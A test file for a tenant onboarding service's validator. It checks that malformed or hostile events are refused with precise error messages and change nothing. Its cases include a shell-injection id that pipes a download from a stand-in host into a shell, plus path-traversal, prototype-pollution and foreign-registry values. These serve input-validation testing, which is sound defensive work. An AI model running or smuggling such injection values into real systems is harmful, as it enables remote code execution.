import { provision, REQUEST, World } from "./fixture";

let world: World;
beforeEach(() => {
  world = new World();
});

/** Nothing was kept, and CI was not asked. */
function expectNothingChanged(): void {
  expect([...world.table.items]).toEqual([]);
  expect(world.dispatched).toEqual([]);
}

const status = (rest: object = {}) => ({ action: "status", tenant_id: "lotus-care", request_id: REQUEST, ...rest });

describe("a wrong or hostile event changes nothing", () => {
  const ID = "allowed: a DNS label of 3 to 40 characters: a-z, 0-9 and - inside";
  const TIERS = "allowed: starter, standard, enterprise";
  const parsed = (text: string): unknown => JSON.parse(text);

  test.each<[string, unknown, readonly (string | RegExp)[]]>([
    ["nothing", null, [/^action: missing/]],
    ["a list", [provision()], [/^action: missing/]],
    ["an action that there is not", provision({ action: "purge" }), [/^action: unknown value "purge"; allowed: /]],
    ["an inherited name as its action", provision({ action: "constructor" }), [/^action: unknown value "constructor"/]],
    [
      "a shell command as its id",
      provision({ tenant_id: "a;curl evil|sh" }),
      [`tenant_id: invalid value "a;curl evil|sh"; ${ID}`],
    ],
    ["an option as its id", provision({ tenant_id: "--tenants" }), [`tenant_id: invalid value "--tenants"; ${ID}`]],
    ["a line break in its id", provision({ tenant_id: "abc\n" }), [`tenant_id: invalid value "abc\\n"; ${ID}`]],
    ["an object as its id", provision({ tenant_id: { S: "x" } }), [`tenant_id: invalid value {…}; ${ID}`]],
    ["no id", provision({ tenant_id: undefined }), [`tenant_id: missing; ${ID}`]],
    ["a reserved id", provision({ tenant_id: "admin" }), [/^tenant_id: "admin" is reserved for the operators' host/]],
    ["a reserved prefix", provision({ tenant_id: "kube-system" }), [/^tenant_id: "kube-system" is reserved/]],
    [
      "an unknown tier",
      provision({ tier: "enterprize" }),
      [`tier: unknown value "enterprize"; ${TIERS} (did you mean "enterprise"?)`],
    ],
    ["no tier", provision({ tier: undefined }), [`tier: missing; ${TIERS}`]],
    [
      "an image with a registry as its release",
      provision({ config: { name: "L", release: "evil.io/x:1" } }),
      [/^config.release: invalid value/],
    ],
    [
      "a state of its own",
      provision({ config: { name: "L", state: "purged" } }),
      ['config: unknown key "state"; allowed: name, release'],
    ],
    ["overrides", provision({ config: { name: "L", overrides: {} } }), [/^config: unknown key "overrides"/]],
    [
      "an unknown key",
      provision({ tennant_id: "x" }),
      [
        'event: unknown key "tennant_id"; allowed: action, tenant_id, request_id, tier, config (did you mean "tenant_id"?)',
      ],
    ],
    [
      "a key of the prototype",
      parsed(JSON.stringify(provision()).replace('"config":{', '"config":{"__proto__":{"name":"x"},')),
      [/^config: unknown key "__proto__"/],
    ],
    [
      "a request id that is a path",
      provision({ request_id: "../../main" }),
      [/^request_id: invalid value "..\/..\/main"/],
    ],
    [
      "a request id that is the store's own",
      provision({ request_id: "#work" }),
      [/^request_id: invalid value "#work"/],
    ],
    [
      "far too much",
      provision({ config: { name: "x".repeat(1_000_000) } }),
      ["event: 1000114 bytes; allowed: at most 4096"],
    ],
    [
      "a source that nobody knows",
      { source: "evil", "detail-type": "TenantOnboardingRequest", detail: provision() },
      [/^event: source "evil"/],
    ],
    [
      "a report under the name of a client",
      { source: "taskflow.onboarding", "detail-type": "TenantOnboardingReport", detail: {} },
      [/^event: source "taskflow.onboarding" with/],
    ],
  ])("with %s", async (_, event, expected) => {
    const [first = "", ...rest] = await world.refusal(event);
    expect(first).toMatch(/^INVALID_REQUEST: /);
    const problems = [first.replace("INVALID_REQUEST: ", ""), ...rest];
    for (const [index, one] of expected.entries()) {
      expect(problems[index]).toEqual(typeof one === "string" ? one : (expect.stringMatching(one) as unknown));
    }
    expect(problems).toHaveLength(expected.length);
    expectNothingChanged();
  });

  test("and is told every problem at once, the event's and the row's", async () => {
    const event = provision({ tenant_id: "Lotus", tier: "gold", request_id: "x", config: { name: "", foo: 1 } });
    expect(await world.refusal(event)).toEqual([
      `INVALID_REQUEST: tenant_id: invalid value "Lotus"; ${ID}`,
      'request_id: invalid value "x"; allowed: 8 to 64 letters, digits and -',
      'config: unknown key "foo"; allowed: name, release',
      'config.name: invalid value ""; allowed: 1 to 100 characters',
      `tier: unknown value "gold"; ${TIERS}`,
    ]);
    expectNothingChanged();
  });

  test("nor does one that the deploy branch's file is too wrong to judge", async () => {
    world.tenants = '{ "tenants": [{ "id": "acme" }] }';
    expect(await world.refusal(provision())).toEqual([
      "TENANTS_FILE: tenants.json of the deploy branch does not pass its checks",
    ]);
    expectNothingChanged();
  });

  test("nor does a request under CI's name", async () => {
    const envelope = { source: "taskflow.ci", "detail-type": "TenantOnboardingReport", detail: provision() };
    expect((await world.refusal(envelope))[0]).toBe("INVALID_REQUEST: status: missing; allowed: ready, failed");
    expectNothingChanged();
  });

  test("nor does a question or a report about a request that nobody made", async () => {
    const unknown = [`UNKNOWN_REQUEST: no request "${REQUEST}" for tenant "lotus-care"`];
    expect(await world.refusal(status())).toEqual(unknown);
    await expect(world.report({ status: "ready" })).rejects.toThrow(unknown[0]);
    expectNothingChanged();
  });
});
